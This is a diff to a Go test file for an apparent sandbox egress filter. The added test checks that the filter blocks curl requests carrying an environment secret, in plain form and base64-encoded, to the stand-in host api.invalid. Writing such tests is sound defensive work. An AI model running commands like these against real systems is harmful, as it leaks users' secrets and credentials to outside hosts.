@@ -154,6 +154,21 @@ func TestSecretsOfTheDoorAreNowhereInTheGuest(t *testing.T) {
 	}
 }
 
+// The refusal comes before the name is looked for, so that nobody has to answer at it.
+func TestTheGuestsOwnSecretDoesNotLeave(t *testing.T) {
+	w := newWorld(t, true)
+	w.env = []string{"GUEST_SECRET=secret-4711-of-the-guest", "SHORT=abc"}
+	args := w.bottle("egress:\n  routes:\n    - host: api.invalid\nenv:\n  INSIDE: ${GUEST_SECRET}\n  TOO_SHORT: ${SHORT}\n",
+		"sh", "-c", "curl -s https://api.invalid/?q=$INSIDE; curl -s https://api.invalid/?q=$(echo $INSIDE | base64)")
+	r := w.run(args...)
+	if n := strings.Count(r.stdout, "dlp-known-secret: a secret of this run is in the head of the request"); n != 2 {
+		t.Errorf("%d of 2 were refused: %s", n, r)
+	}
+	if !strings.Contains(r.stderr, `At the egress door, the secret "env TOO_SHORT" is not looked for: `) {
+		t.Errorf("what can't be looked for is not told: %s", r)
+	}
+}
+
 func TestGuestHasNothingOfTheHost(t *testing.T) {
 	eachCaller(t, func(t *testing.T, w *world) {
 		w.env = []string{"GITHUB_ENV=/tmp/x", "GITHUB_TOKEN=ghs_x", "ACTIONS_RUNTIME_TOKEN=y"}
